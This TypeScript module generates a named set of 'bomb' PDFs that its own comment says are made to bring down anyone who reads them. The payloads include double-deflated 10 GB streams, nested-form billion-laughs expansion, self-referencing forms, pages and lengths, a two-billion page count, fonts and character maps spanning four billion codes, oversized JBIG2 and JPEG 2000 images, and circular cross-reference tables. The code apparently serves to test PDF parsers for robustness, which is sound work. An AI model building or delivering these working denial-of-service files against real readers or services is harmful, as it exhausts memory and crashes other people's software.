// PDFs that are made to bring down anyone who reads them, each small, and each a way of its own.
import { constants, deflateRawSync, deflateSync } from "node:zlib";

type Part = string | Buffer;
const bytesOf = (part: Part): Buffer => (typeof part === "string" ? Buffer.from(part, "latin1") : part);

/** Objects 1, 2, …; the first is the catalogue. No table: readers look for the objects themselves. */
function pdfOf(...objects: readonly Part[]): Uint8Array {
  const parts = objects.flatMap((body, at) => [`${at + 1} 0 obj\n`, body, "\nendobj\n"]);
  return Buffer.concat(["%PDF-1.7\n", ...parts, "trailer\n<</Root 1 0 R>>\n%%EOF\n"].map(bytesOf));
}

const stream = (content: Part, entries = ""): Buffer =>
  Buffer.concat(
    [`<</Length ${bytesOf(content).byteLength}${entries}>>\nstream\n`, content, "\nendstream"].map(bytesOf),
  );

const CATALOGUE = "<</Type/Catalog/Pages 2 0 R>>";
const PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
const FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
const HELLO = "BT /F 12 Tf 40 250 Td (hello) Tj ET";
const leaf = (resources = "/Font<</F 5 0 R>>"): string =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 300]/Resources<<${resources}>>/Contents 4 0 R>>`;

/** One page with this content; more objects are 6, 7, … */
export const onePage = (content: Part, resources?: string, ...more: readonly Part[]): Uint8Array =>
  pdfOf(CATALOGUE, PAGES, leaf(resources), typeof content === "string" ? stream(content) : content, FONT, ...more);

/** So many times 16 MiB of spaces, packed twice: deflate can be repeated from a full flush on. */
function packedTwice(times: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(16 * 1024 * 1024, 32), { finishFlush: constants.Z_FULL_FLUSH });
  const end = Buffer.from([0x03, 0x00]);
  return deflateSync(Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(times).fill(block), end]));
}

/** Forms that each show the next one ten times. */
function laughs(levels: number): readonly Part[] {
  return Array.from({ length: levels }, (_, at) =>
    at === levels - 1
      ? stream(HELLO, "/Type/XObject/Subtype/Form/BBox[0 0 400 300]/Resources<</Font<</F 5 0 R>>>>")
      : stream(
          "/X Do ".repeat(10),
          `/Type/XObject/Subtype/Form/BBox[0 0 400 300]/Resources<</XObject<</X ${at + 7} 0 R>>>>`,
        ),
  );
}

const compositeFont = (descendant: string): string =>
  `<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>${descendant}>>]>>`;
const COMPOSITE = "/Font<</F 6 0 R>>";

/** By what they do. */
export const BOMBS: Readonly<Record<string, () => Uint8Array>> = {
  "a stream of 10 GB": () => onePage(stream(packedTwice(640), "/Filter[/FlateDecode/FlateDecode]")),
  "a file of objects of 10 GB": () =>
    pdfOf(
      CATALOGUE,
      PAGES,
      leaf(),
      stream(HELLO),
      FONT,
      stream(packedTwice(640), "/Type/ObjStm/N 1/First 10/Filter[/FlateDecode/FlateDecode]"),
    ),
  "a billion laughs of forms": () => onePage("/X Do", "/XObject<</X 6 0 R>>", ...laughs(10)),
  "a form within itself": () =>
    onePage(
      "/X Do",
      "/XObject<</X 6 0 R>>",
      stream("/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X 6 0 R>>>>"),
    ),
  "pages within themselves": () => pdfOf(CATALOGUE, "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
  "two billion pages": () =>
    pdfOf(CATALOGUE, "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", leaf(), stream(HELLO), FONT),
  "a million brackets": () => onePage("[".repeat(1_000_000)),
  "a million dictionaries": () => pdfOf(CATALOGUE, PAGES, `<</A`.repeat(1_000_000)),
  "a font of four billion widths": () =>
    onePage("BT /F 12 Tf <0001> Tj ET", COMPOSITE, compositeFont("/W[0 4000000000 500]")),
  "a map of four billion letters": () =>
    onePage(
      "BT /F 12 Tf <0001> Tj ET",
      COMPOSITE,
      compositeFont("").replace("/Type0", "/Type0/ToUnicode 7 0 R"),
      stream(
        "1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange",
      ),
    ),
  "lines of two billion columns": () =>
    onePage(
      stream(
        deflateSync(Buffer.alloc(1000)),
        "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647/Colors 32/BitsPerComponent 16>>",
      ),
    ),
  "a picture of JBIG2 as content": () => onePage(stream(jbig2(65_000, 65_000), "/Filter/JBIG2Decode")),
  "a picture of JPEG 2000 as content": () =>
    onePage(stream(jpx(2_000_000_000, 2_000_000_000), "/Filter/JPXDecode/Subtype/Image/Width 60000/Height 60000")),
  "a hundred million words": () => onePage(stream(repeatedText(100), "/Filter[/FlateDecode/FlateDecode]")),
  "tables that lead to each other": () =>
    Buffer.from(
      `%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF`,
    ),
  "a length that is itself": () => pdfOf(CATALOGUE, PAGES, leaf(), "<</Length 4 0 R>>\nstream\nx\nendstream", FONT),
  "a function of a function": () =>
    onePage(
      "/C cs 1 scn",
      "/ColorSpace<</C[/Separation/A/DeviceRGB 6 0 R]>>/Font<</F 5 0 R>>",
      "<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>",
    ),
};

/** A page of the picture format that only says how large it is (ITU-T T.88, 7.4.8). */
function jbig2(width: number, height: number): Buffer {
  const segment = Buffer.alloc(30);
  segment.writeUInt8(0x30, 4);
  segment.writeUInt8(1, 6);
  segment.writeUInt32BE(19, 7);
  segment.writeUInt32BE(width, 11);
  segment.writeUInt32BE(height, 15);
  return segment;
}

/** A header that only says how large the picture is (ISO 15444-1, A.5.1). */
function jpx(width: number, height: number): Buffer {
  const header = Buffer.alloc(51);
  Buffer.from([0xff, 0x4f, 0xff, 0x51, 0x00, 0x2f, 0x00, 0x00]).copy(header);
  for (const [at, size] of [width, height, 0, 0, 1, 1, 0, 0].entries()) header.writeUInt32BE(size, 8 + 4 * at);
  header.writeUInt16BE(1, 40);
  Buffer.from([7, 1, 1]).copy(header, 42);
  return header;
}

/** So many times 16 MiB of shown words, packed twice. */
function repeatedText(times: number): Buffer {
  const words = "BT /F 12 Tf 40 250 Td (hello) Tj ET\n".repeat(466_033);
  const block = deflateRawSync(words, { finishFlush: constants.Z_FULL_FLUSH });
  return deflateSync(
    Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(times).fill(block), Buffer.from([3, 0])]),
  );
}
